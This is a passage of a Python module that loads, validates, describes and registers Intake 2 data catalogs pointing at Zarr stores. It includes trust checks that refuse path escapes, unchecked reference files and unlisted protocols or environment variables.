                            f"--data-root {_key(target.parent, 200)}, --allow-outside or "
                            f"--trusted)"
                        )
                    if target.is_dir():
                        stack.append(target)
                elif item.is_dir(follow_symlinks=False):
                    stack.append(Path(item.path))

    def in_store(self, value: str, written: str, who: str, field: str) -> None:
        if self.roots is not None and ".." in re.split(r"[/\\]", unquote(value)):
            raise PathEscapeError(
                f"catalog {self.source}: {who} opens the Zarr group {_r(written)} ({field}), "
                f"which leaves the store through '..'; name a group inside the store (e.g. "
                f"'train'), or pass allow_outside=True or trusted=True if you trust this "
                f"catalog (command line: --allow-outside or --trusted)"
            )

    # -- reference file systems

    def unreadable_references(self, refs: str, written: str, who: str,
                              field: str) -> UntrustedCatalogError:
        return UntrustedCatalogError(
            f"catalog {self.source}: {who} reads {_r(written)} ({field}) through a reference "
            f"file system whose references {_r(refs)} cannot be read and checked completely "
            "(only a local JSON reference file without jinja templates can be); use a "
            f"plain Zarr store, or {_HINT}"
        )

    def reference_targets(self, refs: str, written: str, who: str,
                          field: str) -> list[tuple[str, str]]:
        """``(key, target URL)`` of every reference in a local kerchunk/fsspec JSON file,
        as ``ReferenceFileSystem`` (simple templates, no ``gen``) computes them."""
        path = Path(os.path.abspath(os.path.expanduser(refs)))
        if path in self.references:
            return self.references[path]
        if not path.exists():
            return []  # nothing can be read through it
        if ".json" not in refs and (refs.endswith(("parq", "parquet", "/")) or path.is_dir()):
            raise self.unreadable_references(refs, written, who, field)  # lazy parquet
        try:
            with open(path, "rb") as stream:
                spec = json.load(stream)
        except (OSError, ValueError):
            return []  # fsspec cannot load it either
        if not isinstance(spec, dict):
            return []
        version = spec.get("version")
        if version is None:
            refs_map, templates = spec, {}
        elif version == 1:
            refs_map, templates = spec.get("refs", {}), spec.get("templates", {})
            if not isinstance(templates, dict) or not all(
                    isinstance(t, str) and "{{" not in t for t in templates.values()):
                raise self.unreadable_references(refs, written, who, field)
        else:
            return []
        if not isinstance(refs_map, dict):
            return []
        targets: dict[str, str] = {}
        for key, ref in refs_map.items():
            if not isinstance(ref, list) or not ref or ref[0] is None:
                continue  # inline data (or the default target, which needs storage_options)
            url = ref[0]
            if not isinstance(url, str):
                raise self.unreadable_references(refs, written, who, field)
            if version == 1 and templates and "{{" in url:
                try:
                    url = url.replace("{{", "{").replace("}}", "}").format(**templates)
                except (KeyError, IndexError, ValueError, AttributeError):
                    raise self.unreadable_references(refs, written, who, field) from None
            targets.setdefault(url, str(key))
        out = [(key, url) for url, key in targets.items()]
        self.references[path] = out
        return out


def check_catalog_paths(catalog: Any, *, allow_outside: AllowOutside = False,
                        source: str | None = None, trusted: bool = False) -> None:
    """Refuse a loaded catalog that reads outside its folder or through unchecked channels.

    The location and path rules of this module (see its docstring): every location an
    entry or data description names, after templates are filled in, must use a remote
    protocol of :data:`REMOTE_PROTOCOLS` or a local one of :data:`LOCAL_PROTOCOLS`, set only
    :data:`SAFE_STORAGE_OPTIONS`, and every local path it reaches (reference targets
    included) must lie in the catalog's folder or a folder of ``allow_outside``.

    Parameters
    ----------
    catalog : intake.readers.entry.Catalog
        As returned by :func:`load_catalog` or ``intake.from_yaml_file``.
    allow_outside : bool or iterable of folders, default False
        True: any local path (the protocol and storage-option rules still hold).  Folders:
        allowed in addition to the catalog's folder.
    source : str, optional
        Name of the catalog in error messages.
    trusted : bool, default False
        Check nothing (the caller trusts the whole catalog).

    Raises
    ------
    PathEscapeError
        Naming the entry, the path as written, where it resolves, the allowed folder(s) and
        the fix.
    UntrustedCatalogError
        A protocol outside the lists, a storage option outside the allow-list, or a
        location that cannot be checked.

    Examples
    --------
    >>> import os, tempfile
    >>> d = tempfile.mkdtemp()
    >>> f = os.path.join(d, "cat", "c.yaml")
    >>> register_dataset(f, "a", os.path.join(d, "a.zarr"), allow_outside=True)
    >>> check_catalog_paths(load_catalog(f, allow_outside=True))
    Traceback (most recent call last):
    ...
    ooc_kernels.exceptions.PathEscapeError: catalog ...: entry 'a' reads ...
    """
    base = _catalog_base(catalog)
    roots = _allowed_roots(base, allow_outside)
    if trusted:
        return
    if source is None:
        path = catalog.user_parameters.get("CATALOG_PATH")
        source = repr(str(getattr(path, "default", path) or "<in-memory catalog>"))
    _LocationCheck(catalog, roots, base, source).run()


# --- loading ---------------------------------------------------------------------------

def _read_yaml(path: Path, *, trusted: bool = False) -> Any:
    """The catalog file's YAML as plain data; aliases only in a trusted file, and never
    nesting deeper than :data:`ooc_kernels._untrusted.MAX_DEPTH`."""
    if not path.exists():
        raise CatalogError(
            f"catalog file {str(path)!r} does not exist; check the path or create it with "
            "ooc_kernels.data.register_dataset / `ooc-kernels data make --catalog`"
        )
    try:
        with open(path, encoding="utf-8") as stream:
            return load_yaml(stream, source=f"catalog file {str(path)!r}", error=CatalogError,
                             allow_aliases=trusted, hint=f", or {_HINT}")
    except (OSError, UnicodeDecodeError, yaml.YAMLError) as err:
        detail = " ".join(str(err).split())
        raise CatalogError(
            f"catalog file {str(path)!r} cannot be read as YAML ({type(err).__name__}: "
            f"{detail}); fix the file or recreate it with ooc_kernels.data.register_dataset"
        ) from None


def load_catalog(catalog: Any, *, trusted: bool = False,
                 allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()):
    """Load an Intake 2 catalog, refusing code, secrets and outside paths unless allowed.

    Parameters
    ----------
    catalog : str, path-like or intake.readers.entry.Catalog
        A YAML file, or a catalog already loaded by intake (checked as well).
    trusted : bool, default False
        Trust the whole file: skip every check (it may then import and run code, read any
        environment variable and any path).
    allow_outside : bool or iterable of folders, default False
        Entries must read local paths inside the catalog file's folder; True lifts the
        rule, a list of folders allows these too (see :func:`check_catalog_paths`).
    allow_env : iterable of str, default ()
        Environment variables an untrusted catalog may read with ``{env(NAME)}``.

    Returns
    -------
    intake.readers.entry.Catalog

    Raises
    ------
    CatalogError
        Missing, unreadable or invalid file.
    UntrustedCatalogError
        ``trusted`` is False and the catalog names code outside the allow-list, reads an
        environment variable not in ``allow_env``, uses a protocol or storage option
        outside the allow-lists, or names a location that cannot be checked.
    PathEscapeError
        ``trusted`` is False and an entry reads a path outside the catalog's folder that
        ``allow_outside`` does not allow.

    Examples
    --------
    >>> import os, tempfile
    >>> f = os.path.join(tempfile.mkdtemp(), "empty.yaml")
    >>> register_dataset(f, "a", os.path.join(os.path.dirname(f), "a.zarr"))
    >>> sorted(load_catalog(f).entries)
    ['a']
    """
    from intake.readers.entry import Catalog

    allow_env = _env_names(allow_env)
    if isinstance(catalog, Catalog):
        if not trusted:
            check_catalog_trust(catalog.to_dict(), source=repr(type(catalog).__name__),
                                allow_env=allow_env)
        check_catalog_paths(catalog, allow_outside=allow_outside, trusted=trusted)
        return catalog
    if not isinstance(catalog, (str, os.PathLike)):
        raise CatalogError(
            f"catalog must be a path to an Intake 2 YAML file or an intake Catalog, got "
            f"{type(catalog).__name__}"
        )
    path = Path(os.fspath(catalog)).expanduser().absolute()
    return _from_spec(_read_yaml(path, trusted=trusted), path, trusted=trusted,
                      allow_outside=allow_outside, allow_env=allow_env)


def _from_spec(spec: Any, path: Path, *, trusted: bool, allow_outside: AllowOutside,
               allow_env: frozenset[str]):
    """The catalog of YAML data ``spec`` as if read from file ``path`` (checked as
    :func:`load_catalog` checks a file)."""
    from intake.readers.entry import Catalog

    source = repr(str(path))
    if trusted:
        _check_structure(spec, source)
    else:
        check_catalog_trust(spec, source, allow_env=allow_env)
    try:
        cat = Catalog.from_dict(spec)
    except Exception as err:
        raise CatalogError(
            f"catalog file {source} is not a valid Intake 2 catalog ({type(err).__name__}: "
            f"{err}); recreate it with ooc_kernels.data.register_dataset"
        ) from None
    # the same parameters intake.from_yaml_file sets, for {CATALOG_DIR} templates (not
    # percent-encoded: fsspec opens file:// URLs without decoding them)
    cat.user_parameters["CATALOG_PATH"] = str(path)
    cat.user_parameters["CATALOG_DIR"] = "file://" + path.parent.as_posix()
    cat.user_parameters["STORAGE_OPTIONS"] = {}
    check_catalog_paths(cat, allow_outside=allow_outside, source=source, trusted=trusted)
    return cat


def list_datasets(catalog: Any, *, trusted: bool = False,
                  allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()) -> list[str]:
    """Sorted names of the entries (and aliases) of a catalog.

    Examples
    --------
    >>> list_datasets("catalogs/examples.yaml")  # doctest: +SKIP
    ['digits_deformed', 'digits_deformed_test', 'nonlinear_binary', 'synthetic_krr_2d']
    """
    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
                       allow_env=allow_env)
    return sorted(set(cat.entries) | set(cat.aliases))


def _entry(cat, name: str):
    if not isinstance(name, str) or (name not in cat.entries and name not in cat.aliases):
        available = sorted(set(cat.entries) | set(cat.aliases))
        raise UnknownEntryError(
            f"catalog has no entry {_r(name)}; available entries: {_r(available)}. Pick one "
            "of them or add the dataset with ooc_kernels.data.register_dataset"
        )
    target = cat.aliases.get(name, name)
    if target not in cat.entries:
        raise CatalogError(
            f"catalog alias {_r(name)} points at {_r(target)}, which is not a reader entry of "
            f"the catalog (entries: {sorted(cat.entries)}); fix the alias in the catalog"
        )
    return cat.entries[target]


def _data_url(cat, entry) -> str | None:
    """The url of the data an entry reads, its templates filled in as intake fills them
    (``{CATALOG_DIR}``, user parameters, allowed ``{env(NAME)}``: the catalog has passed
    :func:`load_catalog`'s checks before this is called)."""
    desc = entry
    refs = list(entry.kwargs.get("args") or [])
    data = entry.kwargs.get("data")
    if data is not None:
        refs.append(data)
    for ref in refs:
        if isinstance(ref, str):
            m = re.match(r"{?data[(]([^)]+)[)]}?", ref)
            if m and m.group(1) in cat.data:
                desc = cat.data[m.group(1)]
                break
        elif hasattr(ref, "kwargs"):
            desc = ref
            break
    url = (desc.kwargs or {}).get("url")
    if not isinstance(url, str) or "{" not in url:
        return url
    from intake.readers.user_parameters import set_values

    ups = dict(getattr(desc, "user_parameters", None) or {})
    ups.update(cat.user_parameters)
    try:
        return set_values(ups, {"url": url})["url"]
    except Exception:  # noqa: BLE001 - an unfillable template: shown as written
        return url


def _resolve(cat, url: str | None) -> str | None:
    if not isinstance(url, str):
        return url
    base = cat.user_parameters.get("CATALOG_DIR")
    base = getattr(base, "default", base)
    if isinstance(base, str):
        url = url.replace("{CATALOG_DIR}", base)
    if url.startswith("file://"):
        url = os.path.normpath(url[len("file://"):])  # as fsspec opens it: not decoded
    return url


def describe_catalog(catalog: Any, *, trusted: bool = False,
                     allow_outside: AllowOutside = False,
                     allow_env: Iterable[str] = ()) -> list[dict]:
    """One row per entry: ``name``, ``description``, ``path`` (resolved) and ``reader``.

    Examples
    --------
    >>> import os, tempfile
    >>> f = os.path.join(tempfile.mkdtemp(), "c.yaml")
    >>> register_dataset(f, "a", os.path.join(os.path.dirname(f), "a.zarr"), description="A")
    >>> row = describe_catalog(f)[0]
    >>> row["name"], row["description"], row["reader"], os.path.basename(row["path"])
    ('a', 'A', 'intake.readers.readers:XArrayDatasetReader', 'a.zarr')
    """
    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
                       allow_env=allow_env)
    rows = []
    for name in sorted(set(cat.entries) | set(cat.aliases)):
        if cat.aliases.get(name, name) not in cat.entries:
            continue  # an alias of a data description: nothing to open
        entry = _entry(cat, name)
        rows.append({
            "name": name,
            "description": (entry.metadata or {}).get("description", ""),
            "path": _resolve(cat, _data_url(cat, entry)),
            "reader": entry.reader,
        })
    return rows


def entry_path(catalog: Any, name: str, *, trusted: bool = False,
               allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()) -> Path:
    """Local path of the Zarr store that entry ``name`` reads (it need not exist yet).

    Raises
    ------
    UnknownEntryError
        ``name`` is not in the catalog.
    CatalogError
        The entry has no data path, or it is a remote URL.
    PathEscapeError
        The path is outside the catalog's folder (see :func:`load_catalog`).

    Examples
    --------
    >>> import os, tempfile
    >>> d = tempfile.mkdtemp()
    >>> register_dataset(os.path.join(d, "c.yaml"), "a", os.path.join(d, "data", "a.zarr"))
    >>> entry_path(os.path.join(d, "c.yaml"), "a").relative_to(d).as_posix()
    'data/a.zarr'
    """
    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
                       allow_env=allow_env)
    url = _resolve(cat, _data_url(cat, _entry(cat, name)))
    if not isinstance(url, str) or not url or "://" in url or "{" in url:
        raise CatalogError(
            f"catalog entry {_r(name)} does not point at a local path (found {_r(url)}); "
            "register the store with ooc_kernels.data.register_dataset"
        )
    return Path(url)


def open_dataset(catalog: Any, name: str, *, trusted: bool = False,
                 allow_outside: AllowOutside = False, allow_env: Iterable[str] = (),
                 variables: Mapping[str, str] | None = None) -> xr.Dataset:
    """Open catalog entry ``name`` as a lazy, validated, Dask-backed ``xarray.Dataset``.

    The entry's metadata may declare how to read a store that does not follow the library's
    names or records no attributes (e.g. written with ``ds.to_zarr()`` and registered with
    Intake's own API)::

        metadata:
          ooc_kernels:
            variables: {X: features, y: label}   # schema variable: store variable
            schema: supervised                   # optional (default)
            task: classification                 # optional: else inferred from y's dtype
            classes: [0, 1]                      # optional: else found in y

    The Dataset keeps the store's own names; the declaration is put in its attributes
    (``ooc_kernels_variables``, ``ooc_kernels_schema``, ``task``, ``classes``), where the
    estimators and :func:`ooc_kernels.data.inputs.as_chunked` find it.
    :func:`declare_dataset` (``ooc-kernels catalog declare``) writes that metadata;
    ``variables`` names the variables for this call only.

    Parameters
    ----------
    catalog : str, path-like or intake.readers.entry.Catalog
    name : str
        Entry (or alias) name.
    trusted, allow_outside, allow_env
        See :func:`load_catalog`.
    variables : mapping of str to str, optional
        Schema variable -> store variable (``{"X": "features", "y": "label"}``), for an
        entry whose metadata does not declare them all.  Added to the entry's declaration;
        a variable the entry declares under another name is an error.

    Returns
    -------
    xarray.Dataset
        Dask chunks equal the Zarr chunks; no array data is read.

    Raises
    ------
    UnknownEntryError
        ``name`` is not in the catalog (the message lists the available entries).
    CatalogError, UntrustedCatalogError, PathEscapeError, SchemaError
        ``SchemaError`` lists every problem of the store, each with a fix that works on
        disk (rewrite the store, set an attribute, declare the names in the entry); it is
        also raised when ``variables`` names a variable the entry declares otherwise.

    Examples
    --------
    >>> ds = open_dataset("catalogs/examples.yaml", "synthetic_krr_2d")  # doctest: +SKIP
    """
    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
                       allow_env=allow_env)
    ds, context = _read_entry(cat, name, variables)
    return validate_dataset(ds, context=context)


def _read_entry(cat, name: str, variables: Mapping[str, str] | None = None
                ) -> tuple[xr.Dataset, Context]:
    """Entry ``name`` of a loaded catalog as a lazy Dataset, its declaration (and
    ``variables``) applied but not validated, and the :class:`Context` for validating it."""
    entry = _entry(cat, name)
    try:
        reader = cat[name]
        extra = {} if "chunks" in entry.kwargs else {"chunks": {}}
        with warnings.catch_warnings():
            # stores without consolidated metadata open fine, just a little slower
            warnings.filterwarnings("ignore", message=".*consolidated metadata.*")
            ds = reader.read(**extra)
    except FileNotFoundError as err:
        raise CatalogError(
            f"catalog entry {_r(name)} points at {_r(_resolve(cat, _data_url(cat, entry)))}, which "
            f"does not exist ({err}); create it with `ooc-kernels data make` or "
            "ooc_kernels.data.make_dataset"
        ) from None
    except (CatalogError, KeyboardInterrupt):
        raise
    except Exception as err:
        raise CatalogError(
            f"catalog entry {_r(name)} (data {_r(_resolve(cat, _data_url(cat, entry)))}) could not "
            f"be opened: {type(err).__name__}: {err}"
        ) from None
    if not isinstance(ds, xr.Dataset):
        raise CatalogError(
            f"catalog entry {_r(name)} produced a {type(ds).__name__}, expected an "
            "xarray.Dataset; use the reader intake.readers.readers:XArrayDatasetReader"
        )
    where = f"catalog entry {_r(name)}'s metadata {DECLARATION_KEY}"
    declaration = _with_variables((entry.metadata or {}).get(DECLARATION_KEY), variables,
                                  name, where)
    ds = apply_declaration(ds, declaration, where=where)
    path = _resolve(cat, _data_url(cat, entry))
    source = cat.user_parameters.get("CATALOG_PATH")
    source = getattr(source, "default", source)
    return ds, Context("catalog", path=str(path), entry=name,
                       catalog=source if isinstance(source, str) else None)


def _with_variables(declaration: Any, variables: Mapping[str, str] | None, name: str,
                    where: str) -> Any:
    """An entry's declaration with the caller's ``variables`` added (they must agree)."""
    if variables is None or (declaration is not None and not isinstance(declaration, Mapping)):
        return declaration  # nothing to add, or a malformed declaration apply_declaration names
    declared_schema = (declaration or {}).get("schema")
    given = make_declaration(
        variables, schema=declared_schema if declared_schema in SCHEMAS else None,
        where=f"the variables given for catalog entry {_r(name)}")["variables"]
    declared = (declaration or {}).get("variables")
    if isinstance(declared, Mapping):
        clash = {k: v for k, v in given.items() if k in declared and declared[k] != v}
        if clash:
            k = sorted(clash)[0]
            raise SchemaError(
                f"{where} declares {k} = {_r(declared[k])}, but the variables given "
                f"(--var / variables= / a pipeline's data.variables) say {k} = "
                f"{_r(clash[k])}; drop the one that is wrong: leave {k} out of the "
                f"variables given, or change the entry with `ooc-kernels catalog declare "
                f"CATALOG {name} --var {k}={clash[k]}`")
        given = {**declared, **given}
    return {**(declaration or {}), "variables": given}


# --- writing ---------------------------------------------------------------------------

def _relative_url(data_path: Path, catalog_dir: Path) -> str:
    try:
        rel = os.path.relpath(data_path, catalog_dir)
    except ValueError:  # e.g. another drive on Windows
        return data_path.as_posix()
    return "{CATALOG_DIR}/" + Path(rel).as_posix()


def _entry_dicts(name: str, url: str, description: str | None,
                 declaration: Mapping | None = None) -> tuple[dict, dict]:
    from intake.readers import datatypes, readers
    from intake.readers.entry import Catalog

    data = datatypes.Zarr(url=url)
    reader = readers.XArrayDatasetReader(data, chunks={}, engine="zarr")
    if description:
        reader.metadata["description"] = description
    if declaration:
        reader.metadata[DECLARATION_KEY] = dict(declaration)
    tmp = Catalog()
    tmp.add_entry(reader, name=name)
    spec = tmp.to_dict()
    return spec["entries"], spec["data"]


def _data_refs(entry: Mapping) -> set[str]:
    refs: set[str] = set()

    def walk(v):
        if isinstance(v, Mapping):
            for x in v.values():  # small: a mapping from the catalog YAML
                walk(x)
        elif isinstance(v, (list, tuple)):
            for x in v:
                walk(x)
        elif isinstance(v, str):
            refs.update(m.strip() for m in re.findall(r"data[(]([^),]+)", v))

    walk(entry.get("kwargs") or {})
    return refs


def _read_spec(cat_path: Path, *, trusted: bool = False) -> dict:
    """The catalog file's YAML as the six top-level mappings of an Intake 2 catalog
    (empty ones for a missing or empty file); nothing is imported or executed."""
    if cat_path.exists():
        spec = _read_yaml(cat_path, trusted=trusted)
        if spec is None:
            spec = {}
        _check_structure(spec if spec else {"version": 2}, repr(str(cat_path)))
    else:
        spec = {}
    return {
        "aliases": dict(spec.get("aliases") or {}),
        "data": dict(spec.get("data") or {}),
        "entries": dict(spec.get("entries") or {}),
        "metadata": dict(spec.get("metadata") or {}),
        "user_parameters": dict(spec.get("user_parameters") or {}),
        "version": 2,
    }


class _NoAliasDumper(yaml.SafeDumper):
    """``yaml.safe_dump`` without anchors: a value used twice is written twice, so the
    file stays readable by the alias-free loader of untrusted catalogs."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def _write_spec(cat_path: Path, spec: Mapping) -> None:
    """Replace the catalog file by ``spec`` atomically (temporary file + ``os.replace``):
    a reader sees the old file or the new one, never a part."""
    cat_path.parent.mkdir(parents=True, exist_ok=True)
    tmp = cat_path.parent / f".{cat_path.name}.tmp-{uuid.uuid4().hex[:12]}"
    try:
        with open(tmp, "w", encoding="utf-8") as stream:
            yaml.dump(dict(spec), stream, Dumper=_NoAliasDumper, sort_keys=True)
        os.replace(tmp, cat_path)
    finally:
        if tmp.exists():
            tmp.unlink()


def _check_declared_entry(cat_path: Path, spec: Mapping, entry: str, action: str, *,
                          trusted: bool, allow_outside: AllowOutside,
                          allow_env: Iterable[str]) -> None:
    """Open ``entry`` of the catalog ``spec`` (not yet written to ``cat_path``) as
    :func:`open_dataset` opens it, under the same trust rules, so that a declaration that
    does not fit the store is refused before the file changes: every store variable it
    names must exist, and its schema, task and classes must not contradict the store's
    attributes.  Only this entry is loaded (the other entries are neither checked nor
    imported).  A local store that does not exist yet is not opened.  The rest of the
    store's validation is left to :func:`open_dataset` (a declaration may name some of the
    variables now, the others later).  A :class:`SchemaError` is raised prefixed by
    ``action`` (what was refused)."""
    one = {"version": 2, "aliases": {}, "entries": {entry: spec["entries"][entry]},
           "data": dict(spec.get("data") or {}),
           "user_parameters": dict(spec.get("user_parameters") or {}),
           "metadata": dict(spec.get("metadata") or {})}
    cat = _from_spec(one, cat_path, trusted=trusted, allow_outside=allow_outside,
                     allow_env=_env_names(allow_env))
    url = _resolve(cat, _data_url(cat, cat.entries[entry]))
    if isinstance(url, str) and "://" not in url and "{" not in url \
            and not Path(url).exists():
        return  # written later: checked when it is opened
    unchanged = f"{action}, the catalog file {str(cat_path)!r} is unchanged"
    try:
        ds, context = _read_entry(cat, entry)
    except SchemaError as err:
        raise SchemaError(f"{unchanged}: {err}") from None
    declared = (cat.entries[entry].metadata or {}).get(DECLARATION_KEY) or {}
    declared = declared.get("variables") if isinstance(declared, Mapping) else None
    have = sorted(map(str, ds.data_vars))
    for key, value in (declared.items() if isinstance(declared, Mapping) else ()):
        if value not in ds.data_vars:
            raise SchemaError(
                f"{unchanged}: it names {_r(value)} as {key}, but the store "
                f"{_r(context.path)} has no data variable {_r(value)}; its data variables "
                f"are {_r(have)}")


def register_dataset(catalog_path: str | os.PathLike, entry: str,
                     data_path: str | os.PathLike, *, description: str | None = None,
                     variables: Mapping[str, str] | None = None, schema: str | None = None,
                     task: str | None = None, classes: Any = None,
                     allow_outside: AllowOutside = False) -> None:
    """Create or update an Intake 2 catalog file with an entry for a Zarr store.

    The store's path is written relative to the catalog's folder (``{CATALOG_DIR}/...``)
    when possible, so catalog and data can move together.  The file is written atomically
    (temporary file + ``os.replace``).  Existing entries are kept as they are (nothing from
    the file is imported or executed); an entry of the same name is replaced.

    ``variables``, ``schema``, ``task`` and ``classes`` are written as the entry's
    declaration (metadata ``ooc_kernels: {variables: ..., ...}``, see
    :func:`open_dataset`), for a store that does not use the library's names or records
    no attributes, e.g. one written with ``ds.to_zarr()``.  When the store exists, the
    entry is opened with its declaration first, and a declaration that does not fit the
    store raises ``SchemaError`` with the catalog file untouched.

    Parameters
    ----------
    catalog_path : str or path-like
        The YAML file (created with its folder if missing).
    entry : str
        Entry name (letters, digits, ``_``, ``-`` and ``.``).
    data_path : str or path-like
        The Zarr store (it need not exist yet).
    description : str, optional
        Shown by :func:`describe_catalog` / ``ooc-kernels catalog list``.
    variables : mapping of str to str, optional
        Schema variable -> store variable, e.g. ``{"X": "features", "y": "label"}``.
    schema : str, optional
        The store's schema (``"supervised"``, ``"factorized"``, ``"triplets"``), when the
        store does not record it.
    task : {"classification", "regression"}, optional
        When the store does not record it (else inferred from the targets' dtype).
    classes : sequence, optional
        The sorted label values, when the store does not record them.
    allow_outside : bool or iterable of folders, default False
        The store must lie inside the catalog's folder (readers refuse other paths, see
        :func:`load_catalog`); True allows any path, a list of folders allows these too.
        Whoever opens the catalog then needs the same ``allow_outside``.

    Raises
    ------
    CatalogError
        Invalid entry name, or an existing file that is not an Intake 2 catalog.
    PathEscapeError
        ``data_path`` is outside the catalog's folder and ``allow_outside`` does not allow it
        (the catalog file is left untouched).
    SchemaError
        An invalid declaration, or one that does not fit the existing store (the catalog
        file is left untouched).

    Examples
    --------
    >>> import os, tempfile
    >>> d = tempfile.mkdtemp()
    >>> f = os.path.join(d, "catalogs", "c.yaml")
    >>> register_dataset(f, "digits", os.path.join(d, "catalogs", "data", "digits.zarr"))
    >>> from pathlib import Path
    >>> "{CATALOG_DIR}/data/digits.zarr" in Path(f).read_text()
    True

    A store of one's own, written with ``ds.to_zarr()`` with other names:

    >>> import numpy as np, xarray as xr
    >>> store = os.path.join(d, "catalogs", "data", "sensors.zarr")
    >>> xr.Dataset({"features": (("time", "channel"), np.zeros((4, 2))),
    ...             "label": ("time", np.array([0, 1, 0, 1]))}).to_zarr(store)  # doctest: +ELLIPSIS
    <xarray.backends.zarr.ZarrStore object at ...>
    >>> register_dataset(f, "sensors", store, variables={"X": "features", "y": "label"})
    >>> open_dataset(f, "sensors").attrs["ooc_kernels_variables"]
    {'X': 'features', 'y': 'label'}
    """
    if not isinstance(entry, str) or not re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.\-]*", entry):
        raise CatalogError(
            f"invalid entry name {_r(entry)}; use letters, digits, '_', '-' and '.' (e.g. "
            "'digits_deformed')"
        )
    cat_path = Path(os.fspath(catalog_path)).expanduser().absolute()
    data_abs = Path(os.fspath(data_path)).expanduser().absolute()
    base = cat_path.parent.resolve()
    roots = _allowed_roots(base, allow_outside)
    resolved = data_abs.resolve()
    if roots is not None and _outside(resolved, roots):
        raise PathEscapeError(
            f"cannot register entry {_r(entry)} in catalog {str(cat_path)!r}: its data "
            f"{str(data_abs)!r} resolves to {str(resolved)!r}, outside "
            f"{_fmt_roots(base, roots)}, and readers of the catalog would refuse it; write "
            f"the store under the catalog's folder (e.g. "
            f"{str(base / 'data' / resolved.name)!r}), or pass "
            f"allow_outside=[{str(resolved.parent)!r}] or allow_outside=True (readers then "
            f"need the same, or trusted=True; command line: --data-root "
            f"{str(resolved.parent)} or --allow-outside)"
        )
    declaration = make_declaration(variables, schema=schema, task=task, classes=classes,
                                   where=f"the declaration of entry {_r(entry)}")
    spec = _read_spec(cat_path)
    new_entries, new_data = _entry_dicts(entry, _relative_url(data_abs, cat_path.parent),
                                         description, declaration)
    old = spec["entries"].pop(entry, None)
    spec["aliases"].pop(entry, None)
    spec["entries"].update(new_entries)
    spec["data"].update(new_data)
    if isinstance(old, Mapping):  # drop data no longer referenced by any entry
        entries = spec["entries"].values()  # small: catalog entries (YAML mappings)
        still_used = set().union(*(_data_refs(e) for e in entries if isinstance(e, Mapping)))
        for ref in _data_refs(old) - still_used:
            spec["data"].pop(ref, None)
    if declaration:
        _check_declared_entry(
            cat_path, spec, entry,
            f"cannot register entry {_r(entry)} with the declaration {declaration!r}",
            trusted=False, allow_outside=allow_outside, allow_env=())
    _write_spec(cat_path, spec)


def declare_dataset(catalog_path: str | os.PathLike, entry: str, *,
                    variables: Mapping[str, str] | None = None, schema: str | None = None,
                    task: str | None = None, classes: Any = None, trusted: bool = False,
                    allow_outside: AllowOutside = False,
                    allow_env: Iterable[str] = ()) -> dict:
    """Declare how to read an existing catalog entry: write its ``ooc_kernels`` metadata.

    For an entry made with Intake's own API (``Catalog.add_entry`` + ``to_yaml_file``) or
    written by hand, over a store that does not use the library's names or records no
    attributes: after ``declare_dataset(cat, "sensors", variables={"X": "features",
    "y": "label"})`` the entry opens with :func:`open_dataset` and trains as it is.  The
    values given are added to what the entry already declares (a variable given again
    takes its new name); everything else in the file is kept.

    The entry is opened with the new declaration first (its store, if it exists, must fit
    it: the same checks as :func:`open_dataset`, under the same trust rules, applied to
    this entry only); then the file is rewritten atomically (temporary file +
    ``os.replace``).  It is read as plain YAML data and written back with
    ``yaml.safe_dump``: nothing is imported or executed, every entry, data description,
    alias and parameter is kept, but YAML comments and key order are not.

    Parameters
    ----------
    catalog_path : str or path-like
        An existing Intake 2 catalog file.
    entry : str
        The entry (an alias declares the entry it points at).
    variables : mapping of str to str, optional
        Schema variable -> store variable, e.g. ``{"X": "features", "y": "label"}``.
    schema : str, optional
        The store's schema, when the store does not record it.
    task : {"classification", "regression"}, optional
        When the store does not record it.
    classes : sequence, optional
        The sorted label values, when the store does not record them.
    trusted, allow_outside, allow_env
        How the entry may be opened to check it (see :func:`load_catalog`).

    Returns
    -------
    dict
        The entry's declaration as now written.

    Raises
    ------
    CatalogError
        A missing or invalid catalog file; nothing to declare.
    UnknownEntryError
        ``entry`` is not in the catalog (the message lists the entries).
    SchemaError
        An invalid declaration, or one that does not fit the store.
    UntrustedCatalogError, PathEscapeError
        The entry cannot be opened under the trust rules.

    Examples
    --------
    >>> import os, tempfile
    >>> import numpy as np, xarray as xr
    >>> from intake.readers.datatypes import Zarr
    >>> from intake.readers.entry import Catalog
    >>> from intake.readers.readers import XArrayDatasetReader
    >>> d = tempfile.mkdtemp()
    >>> store = os.path.join(d, "sensors.zarr")
    >>> xr.Dataset({"features": (("time", "channel"), np.zeros((4, 2))),
    ...             "label": ("time", np.array([0, 1, 0, 1]))}).to_zarr(store)  # doctest: +ELLIPSIS
    <xarray.backends.zarr.ZarrStore object at ...>
    >>> cat = Catalog()
    >>> cat.add_entry(XArrayDatasetReader(Zarr(url=store), engine="zarr"), name="sensors")
    'sensors'
    >>> f = os.path.join(d, "cat.yaml")
    >>> cat.to_yaml_file(f)
    >>> declare_dataset(f, "sensors", variables={"X": "features", "y": "label"})
    {'variables': {'X': 'features', 'y': 'label'}}
    >>> open_dataset(f, "sensors")["features"].dims
    ('time', 'channel')
    """
    cat_path = Path(os.fspath(catalog_path)).expanduser().absolute()
    if not cat_path.exists():
        raise CatalogError(
            f"catalog file {str(cat_path)!r} does not exist; create the entry with "
            "ooc_kernels.data.register_dataset (command line: `ooc-kernels catalog add "
            "CATALOG NAME STORE --var X=...`), which declares the variables as well"
        )
    where = f"the declaration of entry {_r(entry)}"
    given = make_declaration(variables, schema=schema, task=task, classes=classes,
                             where=where)
    if not given:
        raise CatalogError(
            f"nothing to declare for entry {_r(entry)} of catalog {str(cat_path)!r}: give "
            "variables={'X': ..., 'y': ...}, schema=, task= or classes= (command line: "
            "--var X=NAME --var y=NAME, --schema, --task, --classes)"
        )
    spec = _read_spec(cat_path, trusted=trusted)
    names = sorted(set(spec["entries"]) | set(spec["aliases"]))
    if not isinstance(entry, str) or entry not in names:
        raise UnknownEntryError(
            f"catalog {str(cat_path)!r} has no entry {_r(entry)}; available entries: "
            f"{_r(names)}. Pick one of them, or add the store with `ooc-kernels catalog add` "
            "(ooc_kernels.data.register_dataset)"
        )
    target = spec["aliases"].get(entry, entry)
